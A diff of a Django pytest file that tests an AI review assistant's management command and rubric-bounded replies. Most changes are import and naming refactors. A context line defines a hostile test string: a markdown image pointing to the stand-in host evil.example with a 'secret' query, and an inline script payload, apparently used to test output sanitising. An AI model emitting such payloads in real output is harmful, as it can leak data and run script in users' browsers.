@@ -8,14 +8,15 @@ from typing import Any
 import pytest
 from django.core.management import CommandError, call_command
 
-from assistant.models import Call
-from assistant.prompts import text_of
-from assistant.reviewing import request_review, write_next
-from assistant.rubric import Criterion
-from classrooms.models import Membership
+from assistant.facts.rubric import Criterion
+from assistant.model.prompts import text_of
+from assistant.models import Call, Review
+from assistant.reviews.services import request_review
+from classrooms.models import Seat
 from experiments.models import Experiment
 from tests import factories
 from tests.assistant.anthropic_server import Act, AnthropicServer
+from tests.work import do_next
 
 # Real transactions: the thread that keeps a lease has a connection of its own.
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -25,7 +26,7 @@ HOSTILE = "![x](https://evil.example/?q=secret) <script>alert(1)</script>"
 
 @pytest.fixture
 def experiment() -> Experiment:
-    member: Membership = factories.join(factories.make_dojo(), "amina")
+    member: Seat = factories.join(factories.make_dojo(), "amina")
     submitted = factories.submit(member, "logistic_regression", rationale="so")
     factories.finish(submitted)
     return Experiment.objects.get(pk=submitted.pk)
@@ -54,7 +55,7 @@ def test_it_prints_what_the_service_would_get(
 ) -> None:
     anthropic_server.will(Act(reply()))
     request_review(experiment, "results")  # type: ignore[arg-type]
-    assert write_next()
+    assert do_next(Review)
     assert run(experiment) == anthropic_server.requests[0]
     assert len(anthropic_server.requests) == 1, "the command sends nothing"
 
@@ -65,7 +66,7 @@ def test_a_reply_is_kept_within_what_the_rules_know(experiment: Experiment, tmp_
     assert (told["source"], told["fallback"]) == ("model", "")
     assert points["hypothesis"] == 2, "“so” is no reason"
     assert points["errors"] is None, "not due"
-    assert "language model within what the rules know" in told["html"]
+    assert "language model, within the facts that the rules know" in told["html"]
     assert Call.objects.count() == 0
 
 
